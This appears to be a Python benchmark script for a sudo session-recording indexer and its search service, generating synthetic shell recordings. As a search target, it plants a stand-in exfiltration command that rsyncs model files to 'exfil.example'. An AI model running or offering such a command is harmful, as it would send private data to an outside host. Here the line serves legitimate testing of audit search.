"""Session recording benchmarks (issue 7).

    .venv/bin/python bench/sessions_bench.py ingest [--sessions 40] [--mb 10] [--runs 3]
    .venv/bin/python bench/sessions_bench.py latency [--rounds 10]     # lab up, as root
    .venv/bin/python bench/sessions_bench.py search [--recordings 100000] [--subset 10000]

1. ingest: index a store of finished recordings as sudo_logsrvd writes them (log.json,
   timing, ttyout/ttyin), each SESSIONS x MB of output, into a fresh store: MB/s of
   recorded data (goal >= 50 MB/s). The time covers parsing, the size checks, the SHA-256
   of every file and the row + audit event per recording. The OS page cache is warm (the
   files were just written), as it is for recordings that just ended.
2. latency: in the lab, a user with a grant runs `sudo -n sh -c 'echo ...'` on gpu01 over
   SSH; the time from the command's end to `broker sessions list` showing it complete
   (goal: median <= 10 s). The lab daemon indexes every second.
3. search (issue 23 item 4): RECORDINGS recordings of typed shell sessions (3-10 command
   lines each, a year of starts) are written as sudo_logsrvd writes them and indexed by
   the daemon's Indexer (row, audit event, search index); then `sessions search`'s
   service answers word, prefix, phrase and regex queries (median of --runs; goal: a
   word over 100,000 recordings < 1 s), and today's full scan (every recording's files
   read, the code as it was before the index) runs on the oldest SUBSET recordings and,
   once, on all of them, for the ratio on the same data.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import secrets
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from broker.app import App
from broker.config.settings import Settings
from broker.sessions import iolog, rows
from broker.sessions.index import Indexer
from broker.sessions.search import Search, compile_regex
from broker.sessions.service import Filters, Recordings, _labelled


def write_recording(root: Path, n: int, size: int) -> None:
    path = root / "00" / f"{n // 36:02X}"[-2:] / f"{n % 36:02X}"[-2:]
    path.mkdir(parents=True)
    chunk = (b"x" * 79 + b"\n") * 50  # 4000 bytes, like a busy terminal's writes
    lines, out = [], bytearray()
    while len(out) < size:
        out += chunk
        lines.append(f"4 0.001000 {len(chunk)}")
    (path / "ttyout").write_bytes(out)
    (path / "ttyin").write_bytes(b"tar czf /tmp/m.tgz /models\r")
    lines.insert(0, "3 0.500000 27")
    (path / "timing").write_text("\n".join(lines) + "\n")
    (path / "timing").chmod(0o400)
    info = {
        "timestamp": {"seconds": int(time.time()) - 60, "nanoseconds": 0},
        "submituser": "alice", "runuser": "root", "submithost": "gpu01",
        "command": "/bin/bash", "runargv": ["-bash"], "runcwd": "/root",
        "ttyname": "/dev/pts/1", "columns": 80, "lines": 24,
        "run_time": {"seconds": 30, "nanoseconds": 0}, "exit_value": 0,
    }  # fmt: skip
    (path / "log.json").write_text(json.dumps(info))


def ingest(args: argparse.Namespace) -> None:
    rates = []
    for run in range(args.runs):
        with tempfile.TemporaryDirectory(prefix="sessions-bench-") as tmp:
            base = Path(tmp)
            store = base / "iolog"
            for n in range(args.sessions):
                write_recording(store, n, args.mb * 1_000_000)
            total = sum(f.stat().st_size for f in store.rglob("*") if f.is_file())
            settings = Settings.model_validate(
                {
                    "broker": {"state_dir": str(base / "state"), "service_user": "root"},
                    "audit": {"syslog": False},
                }
            )
            app = App(settings)
            app.setup().init("bench")
            indexer = Indexer(app.ready_store(), str(store))
            started = time.perf_counter()
            report = indexer.run(datetime.now(UTC))
            elapsed = time.perf_counter() - started
            app.close()
            assert len(report.finished) == args.sessions, report
            rate = total / elapsed / 1e6
            rates.append(rate)
            print(f"run {run + 1}: {total / 1e6:.0f} MB in {elapsed:.2f} s = {rate:.0f} MB/s")
    print(f"ingest: median {statistics.median(rates):.0f} MB/s (goal >= 50 MB/s)")


def latency(args: argparse.Namespace) -> None:
    from tests.lab.conftest import Codes, cli, ssh_argv

    lab = json.loads(Path("/var/lib/broker-lab/lab.json").read_text())
    codes = Codes()
    for user in ("alice", "frank"):
        codes.enroll(lab, user)
    cli(lab, "revoke", "--user", "alice", "--reason", "bench")
    asked = cli(lab, "elevate", "gpu01", "--for", "30m", "--reason", "bench", "--json",
                user="alice", stdin=codes.code("alice"))  # fmt: skip
    request = json.loads(asked.stdout)["request"]
    cli(lab, "approve", request["id"], user="frank", stdin=codes.code("frank"))
    address = next(n["address"] for n in lab["nodes"] if n["name"] == "gpu01")
    delays = []
    for _ in range(args.rounds):
        mark = secrets.token_hex(6)
        subprocess.run(
            ssh_argv(lab, "alice", address, f"sudo -n sh -c 'echo lat-{mark}'"),
            check=True, capture_output=True,
        )  # fmt: skip
        ended = time.monotonic()
        while True:
            found = json.loads(
                cli(lab, "sessions", "search", f"lat-{mark}", "--output", "--json").stdout
            )
            if found and found[0]["session"]["state"] == "complete":
                break
            time.sleep(0.05)
        delays.append(time.monotonic() - ended)
    cli(lab, "revoke", "--user", "alice", "--reason", "bench done")
    print("end of session -> listed: " + ", ".join(f"{d:.2f}" for d in delays))
    print(f"latency: median {statistics.median(delays):.2f} s (goal <= 10 s)")


COMMANDS = (
    "nvidia-smi -r", "systemctl restart slurmd", "systemctl status munge",
    "tail -n 200 /var/log/slurm/slurmd.log", "journalctl -u sshd --since today",
    "vi /etc/slurm/slurm.conf", "ls -la /data/{t}", "du -sh /scratch/{t}",
    "kill -9 {n}", "ps aux --sort=-%mem", "mount -o remount,rw /lustre",
    "dmesg -T", "ip link set ib0 up", "cat /proc/{n}/status", "df -h /home",
    "scp /scratch/{t}.tar login01:/tmp/", "chown -R {t}: /data/{t}", "exit",
)  # fmt: skip
RARE = "rsync -a /models/llm-{t} exfil.example:/drop/"  # in one recording of 10,000


def typed_session(n: int, rng: random.Random) -> bytes:
    lines = []
    for _ in range(rng.randint(3, 10)):
        text = rng.choice(COMMANDS).format(t=f"{rng.getrandbits(32):08x}", n=rng.randint(2, 99999))
        lines.append(text)
    if n % 10_000 == 7:
        lines.insert(1, RARE.format(t=n))
    return "".join(f"{line}\r" for line in lines).encode()


def write_typed(root: Path, n: int, started: int, rng: random.Random) -> None:
    rid = f"{n:06X}"  # hex digits are seq digits too; 100,000 = 0186A0
    path = root / rid[0:2] / rid[2:4] / rid[4:6]
    path.mkdir(parents=True)
    typed = typed_session(n, rng)
    shown = b"$ " + typed.replace(b"\r", b"\r\n$ ")
    (path / "ttyin").write_bytes(typed)
    (path / "ttyout").write_bytes(shown)
    (path / "timing").write_text(
        f"4 0.100000 2\n3 1.500000 {len(typed)}\n4 0.010000 {len(shown) - 2}\n"
    )
    (path / "timing").chmod(0o400)
    info = {
        "timestamp": {"seconds": started, "nanoseconds": 0},
        "submituser": f"u{n % 50}", "runuser": "root", "submithost": f"gpu{n % 200:03d}",
        "command": "/bin/bash", "runargv": ["-bash"], "runcwd": "/root",
        "ttyname": "/dev/pts/1", "columns": 80, "lines": 24,
        "run_time": {"seconds": 30, "nanoseconds": 0}, "exit_value": n % 3,
    }  # fmt: skip
    (path / "log.json").write_text(json.dumps(info))


CLI_LIMIT = Filters(limit=100)  # `broker sessions search`'s default --limit
QUERIES: tuple[tuple[str, str, str], ...] = (
    ("regex", "rare literal, --input", r"exfil\.example"),
    ("word", "rare word", "exfil"),
    ("regex", "common literal, --input", r"systemctl restart"),
    ("word", "common word", "systemctl"),
    ("phrase", "phrase", "journalctl -u sshd"),
    ("prefix", "prefix", "nvidia"),
    ("word", "2-letter word (typed lines read)", "vi"),
)


def _timed(call: Any, runs: int) -> tuple[float, Any]:
    times, result = [], None
    for _ in range(runs):
        started = time.perf_counter()
        result = call()
        times.append(time.perf_counter() - started)
    return statistics.median(times), result


def legacy_search(conn: Any, s: Search, pattern: str, f: Filters) -> list[dict[str, Any]]:
    """`Recordings.search` before the index: list up to 100,000 rows, read every one."""
    regex, found = compile_regex(pattern), []
    for row in rows.listing(conn, Filters(**{**f.__dict__, "limit": 100_000})):
        if row["state"] == "quarantined":
            continue
        match = s._match(row, regex, iolog.INPUT)
        if match is not None:
            found.append({**_labelled(conn, row), "match": match})
            if len(found) >= f.limit:
                break
    return found


def build(base: Path, count: int) -> tuple[App, Recordings, Path]:
    store = base / "iolog"
    rng = random.Random(23)
    first = int(time.time()) - 366 * 86400
    started = time.perf_counter()
    for n in range(1, count + 1):
        write_typed(store, n, first + n * (365 * 86400 // count), rng)
    print(f"wrote {count} recordings in {time.perf_counter() - started:.0f} s")
    settings = Settings.model_validate(
        {"broker": {"state_dir": str(base / "state"), "service_user": "root"},
         "audit": {"syslog": False}}
    )  # fmt: skip
    app = App(settings)
    app.setup().init("bench")
    started = time.perf_counter()
    report = Indexer(app.ready_store(), str(store)).run(datetime.now(UTC))
    took = time.perf_counter() - started
    assert len(report.finished) == count, (len(report.finished), report.quarantined[:3])
    print(f"indexed {count} recordings (row, audit event, search index) in {took:.0f} s"
          f" = {count / took:.0f}/s")  # fmt: skip
    return app, Recordings(app.ready_store(), str(store)), store


def search(args: argparse.Namespace) -> None:
    base = Path(tempfile.mkdtemp(prefix="search-bench-", dir=args.dir))
    try:
        app, recordings, _store = build(base, args.recordings)
        conn = app.ready_store().conn
        print(f"{'query':38} {'mode':7} {'hits':>5} {'read':>6} {'median':>9}")
        for mode, label, text in QUERIES:
            streams = iolog.INPUT if mode == "regex" else ()
            took, result = _timed(
                lambda m=mode, t=text, st=streams: recordings.search(t, st, CLI_LIMIT, m),
                args.runs,
            )
            print(f"{label:38} {mode:7} {len(result.hits):5} {result.read:6}"
                  f" {took * 1000:7.1f} ms")  # fmt: skip
        compare(args, conn, recordings)
        app.close()
    finally:
        shutil.rmtree(base, ignore_errors=True)


def compare(args: argparse.Namespace, conn: Any, recordings: Recordings) -> None:
    """Today's full scan against the index on the same data: the oldest SUBSET recordings
    (median of --runs), then, once, all of them."""
    s = Search(conn, recordings._open_or_none, lambda row: _labelled(conn, row))
    cut = conn.execute(
        "SELECT started_at FROM recordings ORDER BY started_at LIMIT 1 OFFSET ?",
        (min(args.subset, args.recordings) - 1,),
    ).fetchone()[0]
    pattern = r"exfil\.example"
    for label, f, runs in (
        (f"oldest {args.subset}", Filters(until=cut, limit=100), args.runs),
        (f"all {args.recordings}", CLI_LIMIT, 1),
    ):
        old, before = _timed(lambda f=f: legacy_search(conn, s, pattern, f), runs)
        new, after = _timed(lambda f=f: recordings.search(pattern, iolog.INPUT, f), args.runs)
        assert before == after.hits, "the index must find what the full scan finds"
        print(f"rare literal over {label}: full scan {old:.2f} s, index {new * 1000:.1f} ms,"
              f" {old / new:.0f}x; same {len(before)} hits")  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="what", required=True)
    i = sub.add_parser("ingest")
    i.add_argument("--sessions", type=int, default=40)
    i.add_argument("--mb", type=int, default=10)
    i.add_argument("--runs", type=int, default=3)
    la = sub.add_parser("latency")
    la.add_argument("--rounds", type=int, default=10)
    se = sub.add_parser("search")
    se.add_argument("--recordings", type=int, default=100_000)
    se.add_argument("--subset", type=int, default=10_000)
    se.add_argument("--runs", type=int, default=5)
    se.add_argument("--dir", default="/dev/shm" if os.path.isdir("/dev/shm") else None)
    args = parser.parse_args()
    os.umask(0o077)
    {"ingest": ingest, "latency": latency, "search": search}[args.what](args)


if __name__ == "__main__":
    main()
